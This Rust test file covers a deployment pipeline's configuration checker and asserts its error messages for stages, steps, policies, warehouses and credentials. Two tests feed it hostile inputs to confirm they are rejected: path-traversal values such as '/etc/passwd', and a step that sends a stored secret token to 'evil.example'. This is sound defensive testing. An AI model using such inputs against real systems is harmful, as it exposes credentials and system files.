//! What can be known to be wrong before anything runs.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use insta::assert_snapshot;
use reconciler_domain::check::{
    Problem, Surroundings, check_policy, check_stage, check_verification, check_warehouse, in_order,
};
use reconciler_domain::credential::{Credential, CredentialKind, Origin};
use reconciler_domain::id::StageName;
use reconciler_domain::policy::{GateKind, Policy};
use reconciler_domain::stage::Stage;
use reconciler_domain::verification::{Check, HttpCheck};
use reconciler_domain::warehouse::Source;
use serde_json::{Value, json};

use crate::kit::script::{policy, steps_of, template};
use crate::kit::{World, play};

/// Problems, one a line.
fn lines(problems: &[Problem]) -> String {
    let lines: Vec<String> = problems.iter().map(ToString::to_string).collect();
    lines.join("\n")
}

const PROJECT: &str = "
    warehouse shop api
    warehouse data db
    verification errors count=1
    stage dev shop: app
    stage staging shop<dev: app
    stage prod shop<staging: app verify=errors
";

fn project() -> World {
    let mut world = World::new();
    play(&mut world, PROJECT).expect("nothing crashes");
    world
}

/// Checks the stage `prod` after an edit.
fn edited(edit: impl FnOnce(&mut Stage)) -> Vec<Problem> {
    let world = project();
    let mut stage = world.stage("prod").clone();
    edit(&mut stage);
    check_stage(&stage, &Surroundings::of(&world.definitions))
}

pub(crate) fn with_steps(steps: &Value) -> String {
    lines(&edited(|stage| stage.steps = steps_of(steps)))
}

fn with_request(words: &str) -> String {
    let mut world = project();
    play(&mut world, &format!("stage prod {words}: app")).expect("nothing crashes");
    let stage = world.stage("prod").clone();
    lines(&check_stage(&stage, &Surroundings::of(&world.definitions)))
}

#[test]
fn stages_are_put_in_the_order_in_which_freight_gets_to_them() {
    let check = |script: &str, expected: &str| {
        let mut world = World::new();
        play(&mut world, script).expect("nothing crashes");
        let stages = &world.definitions.stages;
        let stages = stages.iter().map(|(name, stage)| (name, &stage.spec)).collect();
        let order: Vec<&str> = in_order(&stages).into_iter().map(StageName::as_str).collect();
        assert_eq!(order.join(" "), expected, "{script}");
    };
    check("warehouse shop api\nstage b shop: app\nstage a shop: app", "a b");
    check(PROJECT, "dev staging prod");
    check(
        "
        warehouse shop api
        stage z shop: app
        stage m shop<z
        stage a shop<m|z: app
        stage b shop: app
        ",
        "b z m a",
    );
    check(
        "
        warehouse shop api
        stage a shop<c: app
        stage b shop<gone: app
        stage c shop<a: app
        ",
        "b a c",
    );
}

#[test]
fn well_formed_stages_pass() {
    let world = project();
    for stage in world.definitions.stages.values() {
        assert_eq!(lines(&check_stage(&stage.spec, &Surroundings::of(&world.definitions))), "");
    }
}

#[test]
fn requests_name_what_is_there() {
    assert_snapshot!(with_request("shop<stagin"), @r#"requests[0].from[0]: there is no stage "stagin"; did you mean "staging"?"#);
    assert_snapshot!(with_request("shopp<staging"), @r#"
    requests[0].warehouse: there is no warehouse "shopp"; did you mean "shop"?
    requests[0].from[0]: stage staging does not request warehouse shopp, so its freight never gets there
    "#);
    assert_snapshot!(with_request("shop<staging|dev|staging"), @"requests[0].from[2]: stage staging is named twice");
    assert_snapshot!(with_request("shop<3/staging|dev"), @"requests[0].at_least: 3 stages can never vouch for freight: `from` names 2");
    assert_snapshot!(with_request("shop<0/staging|dev"), @"requests[0].at_least: at least one stage has to vouch for freight");
    assert_snapshot!(with_request("shop<staging shop<dev"), @r"
    requests[1].warehouse: warehouse shop is requested twice
    steps[1].config.updates.tag: unknown name `freight`, there are: freight_metadata, project, promotion, stage, steps, vars (offset 3)
    ");
    assert_snapshot!(with_request("data<staging"), @r"
    requests[0].from[0]: stage staging does not request warehouse data, so its freight never gets there
    steps[1].config.updates.tag: `freight` has no field `api`, there are: db (offset 11)
    ");
    assert_snapshot!(with_request("shop<"), @"requests[0]: freight comes straight from the warehouse (direct) or from upstream stages (from); this says neither");
    let none = edited(|stage| {
        stage.requests.clear();
        stage.steps.clear();
    });
    assert_snapshot!(lines(&none), @"requests: a stage requests freight of at least one warehouse");
}

#[test]
fn circles_are_told_with_their_way() {
    assert_snapshot!(with_request("shop<prod"), @"requests[0].from[0]: stages wait for each other in a circle: prod -> prod");
    let mut world = project();
    play(&mut world, "stage dev shop<staging|prod: app").expect("nothing crashes");
    let stage = world.stage("dev").clone();
    assert_snapshot!(lines(&check_stage(&stage, &Surroundings::of(&world.definitions))), @"requests[0].from[1]: stages wait for each other in a circle: dev -> prod -> staging -> dev");
    play(&mut world, "stage dev shop: app\nstage dev shop<prod: app").expect("nothing crashes");
    let stage = world.stage("dev").clone();
    assert_snapshot!(lines(&check_stage(&stage, &Surroundings::of(&world.definitions))), @"requests[0].from[0]: stages wait for each other in a circle: dev -> prod -> staging -> dev");
}

fn clone(name: &str, dir: &str, at: &str) -> Value {
    json!([name, "git_clone", {
        "repo": "https://git.example/x", "checkout": { dir: { at: "main" } },
    }])
}

#[test]
fn names_in_steps_are_checked_at_their_place() {
    assert_snapshot!(with_steps(
        &json!([
            clone("src", "src", "branch"),
            ["set", "yaml_update", { "path": "src/a.yaml", "updates": {
                "image.tag": "{{ freight.apo.tag }}", "b": ["{{ vars.region }}"],
                "c": "{{ steps.later.x }}", "d": "{{ 1 + }}",
            } }],
            ["set", "git_commit", { "dir": "src", "mesage": "x" }],
        ])
    ), @r#"
    steps[1].config.updates.d: mismatched input '<EOF>' expecting expression (offset 7)
    steps[2].name: two steps are named set
    steps[2].config.mesage: there is no argument "mesage"; did you mean "message"?
    steps[2].config.message: is required
    "#);
}

#[test]
fn conditions_of_requests_are_checked() {
    assert_snapshot!(with_steps(
        &json!([["call", "http", {
            "url": "https://x.example", "success": "respons.status == 200",
            "outputs": { "id": "response.json.id", "bad": "response.jsn" },
        }]])
    ), @r"
    steps[0].config.success: unknown name `respons`, did you mean `response`? (offset 0)
    steps[0].config.outputs.bad: `response` has no field `jsn`, did you mean `json`? (offset 9)
    ");
}

#[test]
fn a_step_needs_what_an_earlier_one_made() {
    assert_snapshot!(with_steps(
        &json!([
            ["set", "yaml_update", { "path": "src/a.yaml", "updates": {} }],
            clone("src", "src", "commit"),
            ["commit", "git_commit", { "dir": "source", "message": "m" }],
            ["push", "git_push", { "dir": "src" }],
            ["plan", "tf_plan", { "dir": "infra/live" }],
            ["out", "tf_output", { "dir": "infra" }],
            ["apply", "tf_apply", { "plan": "plann" }],
            ["of", "tf_output", { "dir": "infra/live", "plan": "plans" }],
        ])
    ), @r#"
    steps[0].config.path: no git_clone step before this one checks out "src/a.yaml"
    steps[2].config.dir: no git_clone step before this one checks out "source"; checked out: src
    steps[3].config.dir: no git_commit step before this one commits "src"
    steps[3].config.branch: "src" is checked out from a commit, so the branch to push to must be given
    steps[4].config.dir: no git_clone step before this one checks out "infra/live"; checked out: src
    steps[5].config.dir: no tf_plan step before this one plans "infra"
    steps[6].config.plan: there is no tf_plan step "plann"; did you mean "plan"?
    steps[7].config.plan: there is no tf_plan step "plans"; did you mean "plan"?
    "#);
    // A template may be any place.
    assert_snapshot!(with_steps(
        &json!([
            clone("src", "src", "branch"),
            ["set", "yaml_update", { "path": "{{ stage.name }}/a.yaml", "updates": {} }],
            ["commit", "git_commit", { "dir": "{{ stage.name }}", "message": "m" }],
            ["push", "git_push", { "dir": "src" }],
            ["plan", "tf_plan", { "dir": "src/{{ stage.name }}" }],
            ["out", "tf_output", { "dir": "src" }],
            ["apply", "tf_apply", { "plan": "plan" }],
        ])
    ), @"");
    assert_snapshot!(with_steps(
        &json!([
            clone("src", "src", "branch"),
            ["plan", "tf_plan", { "dir": "src" }],
            ["apply", "tf_apply", { "plan": "plan" }],
            ["again", "tf_apply", { "plan": "plan" }],
            ["early", "tf_apply", { "plan": "late" }],
            ["late", "tf_plan", { "dir": "src" }],
            ["import", "tf_import", { "dir": "src", "imports": { "a.b": "x" } }],
            ["gone", "tf_destroy", { "dir": "src" }],
            ["apply_gone", "tf_apply", { "plan": "gone" }],
        ])
    ), @r#"
    steps[3].config.plan: the plan of step plan is applied before; a plan is applied once
    steps[4].config.plan: there is no tf_plan step "late"; known: plan
    steps[6].config.dir: no tf_plan step after this one plans "src", so nothing would be imported: put one after it
    "#);
    let import =
        |dir: &str| json!(["import", "tf_import", { "dir": dir, "imports": { "a.b": "x" } }]);
    let beside = |step: &serde_json::Value| {
        let mut step = step.clone();
        step[2]["control"] = json!({ "parallel": "both" });
        step
    };
    let plan = json!(["plan", "tf_plan", { "dir": "src" }]);
    let apply = json!(["apply", "tf_apply", { "plan": "plan" }]);
    let src = clone("src", "src", "branch");
    assert_snapshot!(with_steps(&json!([src, import("src/."), plan, apply])), @"");
    assert_snapshot!(with_steps(&json!([src, beside(&import("src")), beside(&plan), apply])), @r#"
    steps[3].config.plan: there is no tf_plan step "plan"; there is none yet
    steps[1].config.dir: no tf_plan step after this one plans "src", so nothing would be imported: put one after it
    "#);
}

#[test]
fn a_place_cannot_wait_for_an_effect() {
    assert_snapshot!(with_steps(
        &json!([
            clone("src", "src", "branch"),
            ["call", "http", { "url": "https://x.example" }],
            ["set", "yaml_update", { "path": "src/{{ steps.call.x }}", "updates": { "a": "{{ steps.call.x }}" } }],
            ["late", "yaml_update", { "path": "src/b.yaml", "updates": { "a": "{{ steps.call.x }}" } }],
            ["commit", "git_commit", { "dir": "src", "message": "{{ steps.call.x }}" }],
            ["push", "git_push", { "dir": "src", "branch": "b-{{ steps.commit.commit }}" }],
            ["plan", "tf_plan", { "dir": "src", "vars": { "x": "{{ steps.push.commit }}" } }],
            ["apply", "tf_apply", { "plan": "plan" }],
            ["out", "tf_output", { "dir": "src" }],
            ["tell", "http", { "url": "https://{{ steps.out.host }}", "body": "{{ steps.out.host }}" }],
        ])
    ), @r"
    steps[2].config.path: path decides where the step acts, so it cannot wait for steps.call.x, which exists only after an effect
    steps[5].config.branch: branch decides where the step acts, so it cannot wait for steps.commit.commit, which exists only after an effect
    steps[6].config.vars: vars decides where the step acts, so it cannot wait for steps.push.commit, which exists only after an effect
    steps[9].config.url: url decides where the step acts, so it cannot wait for steps.out.host, which exists only after an effect
    ");
    // An output after an apply may be known when the plan is made.
    assert_snapshot!(with_steps(
        &json!([
            clone("src", "src", "branch"),
            ["plan", "tf_plan", { "dir": "src" }],
            ["apply", "tf_apply", { "plan": "plan" }],
            ["out", "tf_output", { "dir": "src" }],
            ["tell", "http", { "url": "https://{{ steps.out.host }}" }],
        ])
    ), @"");
}

#[test]
fn paths_stay_in_the_working_directory() {
    assert_snapshot!(with_steps(
        &json!([
            clone("src", "../src", "branch"),
            ["set", "yaml_update", { "path": "/etc/passwd", "updates": {} }],
            ["plan", "tf_plan", { "dir": "src/../../x" }],
        ])
    ), @r#"
    steps[0].config.checkout.../src: "../src" leaves the working directory; paths are relative to it
    steps[1].config.path: "/etc/passwd" leaves the working directory; paths are relative to it
    steps[2].config.dir: "src/../../x" leaves the working directory; paths are relative to it
    "#);
}

#[test]
fn verifications_of_a_stage_are_checked() {
    let problems = edited(|stage| {
        let mut unknown = stage.verifications[0].clone();
        unknown.template = "erors".parse().expect("a name");
        let used = &mut stage.verifications[0];
        used.args = BTreeMap::from([
            ("tag".to_owned(), "{{ freight.apo.tag }}".to_owned()),
            ("url".to_owned(), "{{ steps.push.commit }}".to_owned()),
        ]);
        stage.verifications.push(unknown);
    });
    assert_snapshot!(lines(&problems), @r#"
    verifications[0].args.tag: `freight` has no field `apo`, did you mean `api`? (offset 11)
    verifications[1].name: two verifications are named "errors"
    verifications[1].template: there is no verification "erors"; did you mean "errors"?
    "#);
    let mut world = project();
    let template = world.definitions.verifications.values_mut().next().expect("one");
    let http = HttpCheck {
        url: "https://{{ args.host }}/{{ steps.push.commt }}".to_owned(),
        method: "GET".to_owned(),
        headers: BTreeMap::from([("x".to_owned(), "{{ vars.token }}".to_owned())]),
        body: None,
        timeout: Duration::from_secs(1),
        success: "response.status == 200".to_owned(),
    };
    template.spec.checks.insert("ready".to_owned(), Check::Http(http));
    let stage = world.stage("prod").clone();
    assert_snapshot!(lines(&check_stage(&stage, &Surroundings::of(&world.definitions))), @r"
    verifications[0].args: http[0].url of verification errors: `args` has no field `host` (offset 16)
    verifications[0].args: http[0].url of verification errors: `steps.push` has no field `commt`, did you mean `commit`? (offset 38)
    verifications[0].args: http[0].headers.x of verification errors: `vars` has no field `token` (offset 8)
    ");
}

#[test]
fn verification_templates_are_checked() {
    assert_snapshot!(lines(&check_verification(&template("errors"))), @"");
    let mut empty = template("errors");
    empty.checks.clear();
    empty.count = 0;
    empty.interval = Duration::ZERO;
    assert_snapshot!(lines(&check_verification(&empty)), @r"
    : a verification needs at least one check
    count: at least one measurement: without any there is no evidence
    interval: measurements would follow each other without a pause
    ");
    let mut late = template("errors");
    late.count = 11;
    if let Some(Check::Prometheus(query)) = late.checks.get_mut("rate") {
        query.query = "{{ stage.name".to_owned();
        query.success = "result.valu < 1.0".to_owned();
    }
    assert_snapshot!(lines(&check_verification(&late)), @r"
    prometheus[0].success: `result` has no field `valu`, did you mean `value`? (offset 7)
    prometheus[0].query: `{{` is not closed by `}}` (offset 0)
    deadline: 11 measurements need 10m, so the deadline of 10m passes before the last of them
    ");
}

#[test]
fn tickets_and_attestations_are_checked() {
    let mut world = World::new();
    let script = "
        warehouse shop api
        warehouse more api
        stage prod shop: app ticket=CHG1
        stage both shop more: app ticket=CHG1
    ";
    play(&mut world, script).expect("nothing crashes");
    let around = Surroundings::of(&world.definitions);
    let check = |stages: &str, words: &[&str], change: &dyn Fn(&mut Policy)| {
        let mut policy = policy("p", stages, "gated", words);
        change(&mut policy);
        lines(&check_policy(&policy, &around))
    };
    let same = |_: &mut Policy| {};
    assert_eq!(check("prod", &["ticket=a", "attest=a"], &same), "");
    assert_snapshot!(check("prod", &["ticket=a:1s", "ticket=a:2d", "attest=a", "attest=a"], &same), @r#"
    tickets[1].name: two tickets are named "a"
    tickets[0].every: between 10s and 1d
    tickets[1].every: between 10s and 1d
    attestations[1].name: two attestations are named "a"
    "#);
    assert_snapshot!(check("both", &["attest=scan"], &same), @r#"attestations[0].artifact: for stage both: several warehouses that it requests have a subscription api"#);
    let parsed = |text: &str| text.parse().expect("an expression");
    assert_snapshot!(check("prod", &["ticket=a", "attest=b"], &|policy| {
        let (ticket, attestation) = (&mut policy.tickets[0], &mut policy.attestations[0]);
        ticket.request.url = "https://x.example.com/{{ vars.tiket }}".to_owned();
        ticket.request.headers.insert("X-Key".to_owned(), "{{ secret('jira', 'key') }}".to_owned());
        ticket.request.body = Some("{{ steps.push }}".to_owned());
        ticket.request.method = "get it".to_owned();
        ticket.request.timeout = std::time::Duration::from_secs(21);
        ticket.success = parsed("respons.json.approved && secret('jira', 'key') == ''");
        ticket.failure = Some(parsed("payload.x"));
        attestation.success = parsed("response.status == 200 && payload.ok");
    }), @r#"
    tickets[0].timeout: longer than 0s, at most 20s
    tickets[0].method: "get it" is no HTTP method
    tickets[0].url: for stage prod: `vars` has no field `tiket`, did you mean `ticket`? (offset 30)
    tickets[0].headers.X-Key: there is no credential "jira"; there is none yet
    tickets[0].body: for stage prod: unknown name `steps`, there are: freight, freight_metadata, project, promotion, stage, vars (offset 3)
    tickets[0].success: for stage prod: unknown name `respons`, did you mean `response`? (offset 0)
    tickets[0].success: for stage prod: unknown function `secret` (offset 25)
    tickets[0].failure: for stage prod: unknown name `payload`, there are: freight, freight_metadata, project, promotion, response, stage, vars (offset 0)
    attestations[0].success: for stage prod: unknown name `response`, there are: freight, freight_metadata, payload, project, promotion, stage, vars (offset 0)
    "#);
}

#[test]
fn policies_are_checked() {
    let mut world = World::new();
    play(
        &mut world,
        "
        warehouse shop api
        stage prod shop: app
    ",
    )
    .expect("nothing crashes");
    let around = Surroundings::of(&world.definitions);
    let check = |words: &str| {
        let words: Vec<&str> = words.split_whitespace().collect();
        let policy = policy("p", words[0], words[1], &words[2..]);
        lines(&check_policy(&policy, &around))
    };
    assert_eq!(check("prod* gated soak=1h approve=sre:2 forbid=delete rollback"), "");
    assert_eq!(check("prod gated deletes=1 rule=changes.all(c,c.action!='delete')"), "");
    assert_snapshot!(check("prod gated rule=changes.all(c,c.actoin!='delete') rule=sumary.delete<1"), @r"
    infra.rules[0].when: `c` has no field `actoin`, did you mean `action`? (offset 16)
    infra.rules[1].when: unknown name `sumary`, did you mean `summary`? (offset 0)
    ");
    assert_eq!(check("prod automatic rollback"), "");
    assert_snapshot!(check("prod automatic soak=1h"), @"mode: a policy of mode automatic has no gates; use mode gated to let automation promote once every gate passes");
    assert_snapshot!(check("prod[ gated"), @"stages.names[0]: not a glob: unclosed character class; missing ']'");
    assert_snapshot!(check("prod gated approve=sre approve=sre:0 approve=:1"), @r#"
    approvals[1].group: group "sre" is asked twice
    approvals[1].count: at least one approval, or no gate at all
    approvals[2].group: the name of a group
    "#);
    assert_snapshot!(check("prod gated bypass=a:soak bypass=a:infra"), @r#"bypass[1].name: two bypass rights are named "a""#);
    assert_eq!(
        check("prod gated max_age=2d soak=1d when=freight.api.version.major>1 rate=3/1d"),
        ""
    );
    assert_snapshot!(check("prod automatic max_age=1d"), @"mode: a policy of mode automatic has no gates; use mode gated to let automation promote once every gate passes");
    assert_snapshot!(check("prod gated max_wait=0s max_undo_wait=0s"), @r"
    max_wait: no promotion comes to its end in no time; leave it out for 30 days
    max_undo_wait: no promotion comes to its end in no time; leave it out for 30 days
    ");
    assert_eq!(check("prod automatic max_wait=1h max_undo_wait=1h"), "");
    assert_snapshot!(check("prod gated max_age=1d soak=24h"), @"max_age: freight soaks for 1d after it was made, and is then older than 1d: nothing is ever promoted; let max_age be longer than the soak");
    assert_snapshot!(check("prod gated when=freight.apo.tag=='1' when=upstream['qa'].verified"), @r#"
    conditions[0].when: for stage prod: `freight` has no field `apo`, did you mean `api`? (offset 8)
    conditions[1].name: two conditions are named "condition"
    conditions[1].when: for stage prod: `upstream` has no field `qa` (offset 9)
    "#);
    assert_snapshot!(check("prod gated allow=FREQ=DAILY/2h deny=FREQ=DAILY/25h"), @"windows[1]: the windows never open for promote: not once from 2026-01-01T00:00:00Z to 2027-05-14T00:00:00Z; at 2026-01-01T00:00:00Z they are closed by shut");
    assert_snapshot!(check("prod gated deny=FREQ=HOURLY/1h/rollback/promote"), @r"
    windows[0]: the windows never open for promote: not once from 2026-01-01T00:00:00Z to 2037-07-10T08:00:00Z; at 2026-01-01T00:00:00Z they are closed by shut
    windows[0]: the windows never open for rollback: not once from 2026-01-01T00:00:00Z to 2037-07-10T08:00:00Z; at 2026-01-01T00:00:00Z they are closed by shut
    ");
    assert_snapshot!(check("prod gated rate=0/0s rate=0/1d rate=concurrent/0"), @r#"
    rates[0].max: a number from 1 to 1000; a hold stops everything
    rates[0].per: longer than 0s
    rates[1].name: two rates are named "0"
    rates[1].max: a number from 1 to 1000; a hold stops everything
    rates[2].concurrent: at least 1; a hold stops everything
    "#);
    assert_snapshot!(check("prod gated soak=1h soak_in=qaa:2h"), @r#"soak_in.qaa: there is no stage "qaa"; known: prod"#);
    let mut odd = policy("p", "prod", "gated", &["bypass=a:soak"]);
    odd.stages.clear();
    odd.bypass[0].gates = BTreeSet::from([GateKind::Hold]);
    odd.bypass[0].groups.clear();
    assert_snapshot!(lines(&check_policy(&odd, &Surroundings::default())), @r"
    stages.names: a policy selects at least one stage, by name or glob
    bypass[0].gates: gate hold cannot be skipped by right
    bypass[0]: a bypass right names groups and gates
    ");
}

#[test]
fn warehouses_are_checked() {
    let check = |words: &str| {
        let mut world = World::new();
        play(&mut world, &format!("warehouse shop {words}")).expect("nothing crashes");
        lines(&check_warehouse(world.warehouse("shop")))
    };
    assert_eq!(check("api db require freight.api.version.major == freight.db.version.major"), "");
    assert_snapshot!(check(""), @": a warehouse needs at least one subscription");
    assert_snapshot!(check("api require freight.apo.tag == '1'"), @"require: `freight` has no field `apo`, did you mean `api`? (offset 8)");
    assert_snapshot!(check("api require freight.api.version.mayor == 1"), @"require: `freight.api.version` has no field `mayor`, did you mean `major`? (offset 20)");
    assert_snapshot!(check("api require freight.api =="), @"require: mismatched input '<EOF>' expecting expression (offset 14)");
    let mut world = World::new();
    play(&mut world, "warehouse shop api").expect("nothing crashes");
    let mut odd = world.warehouse("shop").clone();
    odd.interval = Duration::ZERO;
    for source in odd.subscriptions.values_mut() {
        if let Source::Image(image) = source {
            image.discovery_limit = 0;
        }
    }
    assert_snapshot!(lines(&check_warehouse(&odd)), @r#"
    interval: the sources would be looked at without a pause
    image["api"].discovery_limit: nothing would ever be found
    "#);
}

#[test]
fn a_secret_is_there_and_sent_to_its_address_only() {
    let mut world = World::new();
    play(&mut world, "warehouse shop api\nstage dev shop: app").expect("nothing crashes");
    let credential = Credential {
        name: "hook".parse().expect("a name"),
        description: String::new(),
        kind: CredentialKind::Http,
        address: Some("https://hook.example/v1".parse().expect("an address")),
        username: None,
        version: None,
        secrets: [("token".to_owned(), Origin::Env("TOKEN".to_owned()))].into(),
    };
    let defined = world.defined(credential, None);
    world.definitions.credentials.insert(defined.spec.name.clone(), defined);
    let check = |url: &str, argument: &str, value: Value, expect: &str| {
        let mut stage = world.stage("dev").clone();
        let mut config = json!({ "url": url });
        config[argument] = value;
        stage.steps = steps_of(&json!([["call", "http", config]]));
        let problems = check_stage(&stage, &Surroundings::of(&world.definitions));
        assert_eq!(lines(&problems), expect);
    };
    let url = "https://hook.example/v1/send";
    check(url, "headers", json!({ "X-Key": "{{ secret('hook', 'token') }}" }), "");
    check(
        "{{ vars.url }}",
        "body",
        json!([{ "k": "{{ secret('hook', 'token') }}" }]),
        "steps[0].config.url: `vars` has no field `url` (offset 8)",
    );
    check(
        url,
        "body",
        json!("{{ secret('hok', 'token') }}"),
        "steps[0].config.body: there is no credential \"hok\"; did you mean \"hook\"?",
    );
    check(
        url,
        "body",
        json!("{{ secret('hook', 'tokn') }}"),
        "steps[0].config.body: credential hook has no secret \"tokn\"; did you mean \"token\"?",
    );
    check(
        url,
        "body",
        json!("{{ secret('hook', freight.api.tag) }}"),
        "steps[0].config.body: secret(\"hook\", …) names its secret otherwise than by two literal texts",
    );
    check(
        "https://evil.example/v1",
        "body",
        json!("{{ secret('hook', 'token') }}"),
        "steps[0].config.body: credential hook is for https://hook.example/v1 and below, and not sent to \
         https://evil.example/v1",
    );
    check(
        "https://hook.example/v1/{{ secret('hook', 'token') }}",
        "body",
        json!("x"),
        "steps[0].config.url: unknown function `secret` (offset 27)",
    );
}
